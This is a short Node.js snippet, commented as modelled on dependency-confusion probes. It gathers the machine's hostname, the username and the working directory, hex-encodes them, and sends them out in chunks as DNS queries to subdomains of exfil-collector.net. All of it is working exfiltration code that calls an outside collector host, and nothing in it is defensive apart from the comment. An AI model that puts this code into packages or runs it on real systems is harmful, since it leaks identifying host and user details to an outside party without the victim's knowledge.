// Modelled on dependency-confusion probes (2021-): data leaves as DNS queries.
const dns = require('dns');
const os = require('os');
const data = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex');
for (let index = 0; index < data.length; index += 60) {
  dns.resolve(`${data.slice(index, index + 60)}.${index}.d.exfil-collector.net`, () => {});
}
